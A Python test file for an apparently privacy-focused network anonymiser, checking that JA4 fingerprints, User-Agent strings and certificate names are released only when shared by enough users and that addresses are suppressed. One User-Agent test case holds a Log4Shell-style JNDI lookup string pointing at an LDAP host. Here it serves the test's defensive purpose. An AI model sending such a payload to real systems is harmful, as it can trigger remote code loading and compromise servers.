# SPDX-FileCopyrightText: The zanon_net authors
# SPDX-License-Identifier: Apache-2.0
"""The values of each attribute besides names, from packets to columns."""

from typing import Any

import pytest
from cryptography import x509
from cryptography.x509.oid import NameOID
from support import h2, wire
from support.engine import TCP_COMPLETE, UDP_COMPLETE, Outcome, run
from support.handshake import browser, certificate_for, flight, server_hello, telling
from support.packets import ACK, PSH, SECOND, SERVER, START, Frame, Udp, hello, user
from support.packets import Tcp as Talk
from support.quic_wire import dtls_fragment, dtls_hello, dtls_record, verify_request

HOST = b"a.example"


def cells(outcome: Outcome, attribute: str, log: str = TCP_COMPLETE) -> list[str | None]:
    """The attribute of each flow, which every output agrees on."""
    shown = [flow[attribute] for flow in outcome.flows]
    assert [line[attribute] for line in outcome.log(log)] == [cell or "-" for cell in shown]
    word = attribute.replace("_", "-")
    seen = [o["name"] for o in outcome.observations if o["namespace"] == word]
    assert seen == [cell for cell in shown if cell]
    return shown


def talks(*streams: bytes, port: int = 443) -> list[Frame]:
    """A connection of each user, in which the client sends these bytes."""
    out: list[Frame] = []
    for i, stream in enumerate(streams):
        talk = Talk(user(i), ports=(40000, port), t_ns=START + i * SECOND).handshake()
        out += talk.say(stream).say(b"answer", SERVER).close().frames
    return out


# ---- ja4 -----------------------------------------------------------------------------------------

PLAIN = wire.extension(23)


def test_the_fingerprint_of_tls() -> None:
    named = [hello(HOST, PLAIN)] * 4
    outcome = run(talks(*named, hello(None, PLAIN), hello(HOST)), z=3, attributes=("ja4",))
    shown = "t12d030200_3b9dd5f0ab5e_78e6aca7449b"
    assert len(set(cells(outcome, "ja4"))) == 2
    text = next(cell for cell in cells(outcome, "ja4") if cell)
    assert cells(outcome, "ja4") == [None, None, text, text, None, None]
    assert (text[:11], len(text)) == (shown[:11], len(shown))


@pytest.mark.parametrize("proven", [True, False])
def test_the_fingerprint_of_quic(proven: bool) -> None:
    frames = [f for i in range(4) for f in browser(i, telling(b"agent"), proven=proven)]
    shown = cells(run(frames, z=3, attributes=("ja4",)), "ja4", UDP_COMPLETE)
    assert [cell and cell[:4] for cell in shown] == [None, None] + ["q13i" if proven else None] * 2


@pytest.mark.parametrize("established", [True, False])
@pytest.mark.parametrize("proven", [True, False])
@pytest.mark.parametrize("host", [HOST, None])
def test_the_fingerprint_of_dtls(established: bool, proven: bool, host: bytes | None) -> None:
    """The hello with the server's cookie counts, not the hello before it, which may be forged."""
    frames: list[Frame] = []
    for i in range(4):
        cookie = bytes(range(60 + i, 80 + i))
        answer = dtls_hello(PLAIN, host=host, cookie=cookie if proven else cookie[::-1])
        talk = Udp(user(i), ports=(40000, 4433), t_ns=START + i * SECOND)
        talk.send(dtls_record(dtls_fragment(dtls_hello(host=host))))
        talk.send(verify_request(cookie), SERVER)
        frames += talk.send(dtls_record(dtls_fragment(answer, message=1), number=1)).frames
    outcome = run(frames, z=3, attributes=("ja4",), established=established)
    extensions = ("2" if established else "1") if host else ("1" if established else "0")
    text = f"dd2{'d' if host else 'i'}020{extensions}00"
    seen = text if proven or not established else None
    shown = cells(outcome, "ja4", UDP_COMPLETE)
    assert [cell and cell[:10] for cell in shown] == [None, None, seen, seen]


# ---- user-agent ----------------------------------------------------------------------------------

AGENT = b"Mozilla/5.0 (X11; Linux x86_64) Chrome/142.0"
AGENT_TEXT = "Mozilla/5.0%20(X11;%20Linux%20x86_64)%20Chrome/142.0"


def asking(*lines: bytes, host: bytes | None = HOST) -> bytes:
    """A request with these lines of fields."""
    named = [] if host is None else [b"Host: " + host]
    return b"\r\n".join([b"GET / HTTP/1.1", *named, *lines, b"", b""])


def agents(*streams: bytes, z: int = 1) -> list[str | None]:
    return cells(run(talks(*streams, port=80), z=z, attributes=("user-agent",)), "user_agent")


def test_an_agent_is_released_if_users_share_it() -> None:
    usual, rare = asking(b"User-Agent: " + AGENT), asking(b"User-Agent: mine")
    assert agents(usual, usual, rare, usual, usual, z=3) == [None, None, None, *[AGENT_TEXT] * 2]


def test_no_agent_is_next_to_a_suppressed_host() -> None:
    line = b"User-Agent: " + AGENT
    streams = [asking(line)] * 3 + [asking(line, host=b"rare.example"), asking(line, host=None)]
    assert agents(*streams, z=3) == [None, None, AGENT_TEXT, None, AGENT_TEXT]
    later = asking(line) + asking(line, host=b"other.example")
    outcome = run(talks(*streams, later, port=80), z=3, attributes=("user-agent",))
    assert outcome.flows[-1]["user_agent"] is None


@pytest.mark.parametrize(
    ("lines", "text"),
    [
        ([], None),
        ([b"User-Agent:"], None),
        ([b"user-agent:\tcurl/8.5.0 "], "curl/8.5.0"),
        ([b"User-Agent : a"], "a"),
        ([b"X-User-Agent: a", b"User-Agent-: b", b"User-Agent"], None),
        ([b"User-Agent: a", b"User-Agent: a"], None),
        ([b"User-Agent: a", b" b"], None),
        ([b"X: y", b" z", b"User-Agent: a"], "a"),
        ([b"User-Agent: a\0b"], None),
        ([b"User-Agent: a\rb"], None),
        ([b'User-Agent: \xc3\xa9%"\\,\tx'], "%C3%A9%25%22%5C%2C%09x"),
        ([b"User-Agent: " + b"x" * 253], "x" * 253),
        ([b"User-Agent: " + b"x" * 254], None),
    ],
)
def test_the_field(lines: list[bytes], text: str | None) -> None:
    assert agents(asking(*lines)) == [text]


@pytest.mark.parametrize(
    ("agent", "is_shown"),
    [
        (b"Mozilla/5.0 Chrome/142.0.0.0", True),
        (b"probe (8.8.8.8; 2001:db8::1)", True),
        (b"1.10.0.0.1 10.0.0.1.2 10.0.0.256", True),
        (b"${jndi:ldap://172.16.238.11:1389/a}", False),
        (b"on 192.168.1.7", False),
        (b"10.0.0.1", False),
        (b"from 10.0.0.1. Hello", False),
        (b"[fd00::1]:80", False),
        (b"at fd00::1: hello", False),
        (b"::ffff:10.0.0.1", False),
        (b"of 198.51.100.7", False),
    ],
)
def test_no_text_has_an_address_of_users_or_of_the_flow(agent: bytes, is_shown: bool) -> None:
    shown = agents(asking(b"User-Agent: " + agent))
    assert [cell is not None for cell in shown] == [is_shown]


def test_the_first_request_with_an_agent_counts() -> None:
    first, second = asking(b"User-Agent: first"), asking(b"User-Agent: second")
    assert agents(asking() + first + second) == ["first"]


def test_a_head_that_was_cut_has_no_agent() -> None:
    head = asking(b"User-Agent: whole", b"X: " + b"y" * 500)
    frames = [f.cut(200) for f in talks(head, port=80)]
    assert agents(head) == ["whole"]
    assert cells(run(frames, z=1, attributes=("user-agent",)), "user_agent") == [None]


def test_a_head_of_many_segments() -> None:
    head = asking(b"User-Agent: " + AGENT, b"X: " + b"y" * 500)
    talk = Talk(user(0), ports=(40000, 80)).handshake()
    for at in range(0, len(head), 37):
        talk.say(head[at : at + 37])
    outcome = run(talk.close().frames, z=1, attributes=("user-agent",))
    assert cells(outcome, "user_agent") == [AGENT_TEXT]


@pytest.mark.parametrize("twice", [False, True])
def test_the_agent_of_http2(twice: bool) -> None:
    client, fields = h2.Client(), [(b"user-agent", AGENT)] * (1 + twice)
    stream = (
        h2.PREFACE + client.request(HOST, *fields) + client.request(HOST, (b"user-agent", b"x"))
    )
    assert agents(stream) == ["x" if twice else AGENT_TEXT]


# ---- certificates --------------------------------------------------------------------------------

CERTIFICATES: dict[str, Any] = {"attributes": ("cert-san", "cert-issuer"), "columns": ("core",)}


def with_names(*hosts: str) -> bytes:
    """A server's first flight, whose certificate names these hosts."""
    issuer = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "A CA")])
    return flight(certificate_for(issuer, *hosts))


def answered(*answers: bytes, host: bytes | None = None, size: int = 1400) -> list[Frame]:
    """A connection of each user, in which the server sends these bytes after the hello."""
    frames: list[Frame] = []
    for i, answer in enumerate(answers):
        talk = Talk(user(i), t_ns=START + i * SECOND).handshake().say(hello(host))
        for at in range(0, len(answer), size):
            talk.say(answer[at : at + size], SERVER)
        frames += talk.close().frames
    return frames


def certificates(frames: list[Frame], **settings: Any) -> list[tuple[str | None, str | None]]:
    outcome = run(frames, **(CERTIFICATES | settings))
    return list(zip(cells(outcome, "cert_san"), cells(outcome, "cert_issuer"), strict=True))


SHOWN = wire.record(with_names("A.example.org", "b.example.org"))
ISSUER = "CN=A%20CA"


@pytest.mark.parametrize("host", [HOST, None])
@pytest.mark.parametrize("columns", [("core",), ("core", "layer7")])
def test_a_certificate_is_released_if_users_share_it(
    host: bytes | None, columns: tuple[str, ...]
) -> None:
    rare = wire.record(with_names("rare.example.org"))
    settings: dict[str, Any] = CERTIFICATES | {"z": 3, "columns": columns}
    outcome = run(answered(SHOWN, SHOWN, rare, SHOWN, host=host), **settings)
    assert cells(outcome, "cert_san") == [None, None, None, "a.example.org"]
    assert cells(outcome, "cert_issuer") == [None, None, ISSUER, ISSUER]
    assert outcome.stats["certificates"] == (4 if "layer7" in columns else 0)
    assert b"rare.example" not in outcome.everything()
    assert outcome.flows[-1]["name"] == (host.decode() if host else None)


def test_a_certificate_next_to_a_suppressed_name_is_not_shown() -> None:
    frames = answered(SHOWN, SHOWN, SHOWN)
    rare = Talk(user(8), t_ns=START + 9 * SECOND).handshake().say(hello(b"rare.example"))
    frames += rare.say(SHOWN, SERVER).close().frames
    shown = ("a.example.org", ISSUER)
    assert certificates(frames, z=2) == [(None, None), shown, shown, (None, None)]


@pytest.mark.parametrize("size", [1, 7, 100, 1400])
@pytest.mark.parametrize("records", [[1 << 14], [50], [9, 3000]])
def test_a_certificate_over_segments_and_records(size: int, records: list[int]) -> None:
    """A certificate of more than 40 segments is not read."""
    answer = wire.records(with_names("a.example.org"), records)
    read = len(answer) / size <= 40
    (cell,) = certificates(answered(answer, size=size), z=1)
    assert cell == (("a.example.org", ISSUER) if read else (None, None))


@pytest.mark.parametrize(
    ("hosts", "text"),
    [
        (["*.Example.org", "a.example"], "*.example.org"),
        (["192.0.2.1"], None),
        (["bad host"], None),
        (["never.example"], None),
        (["*.never.example", "a.example"], None),
        (["a.never.example", "a.example"], None),
        ([f"{'x' * 60}." * 5 + "example"], None),
        (["nul\0.example"], None),
    ],
)
def test_the_first_name_is_a_host(hosts: list[str], text: str | None) -> None:
    frames = answered(wire.record(with_names(*hosts)))
    assert certificates(frames, z=2, never=[b"never.example"]) == [(None, None)]
    assert certificates(frames, z=1, never=[b"never.example"]) == [(text, ISSUER)]


def test_a_server_of_tls_1_3_shows_no_certificate() -> None:
    encrypted = wire.record(server_hello(wire.extension(43, b"\3\4")))
    assert certificates(answered(encrypted + SHOWN), z=1) == [(None, None)]


def test_a_certificate_in_another_order_of_segments() -> None:
    talk = Talk(user(0)).handshake().say(hello(None))
    at = talk.next[SERVER]
    talk.segment(SERVER, PSH | ACK, SHOWN[200:], seq=at + 200)
    talk.say(SHOWN[:200], SERVER)
    talk.next[SERVER] = at + len(SHOWN)
    assert certificates(talk.close().frames, z=1) == [("a.example.org", ISSUER)]


def test_a_cut_certificate_is_not_read() -> None:
    frames = [frame.cut(300) for frame in answered(SHOWN)]
    assert certificates(frames, z=1) == [(None, None)]
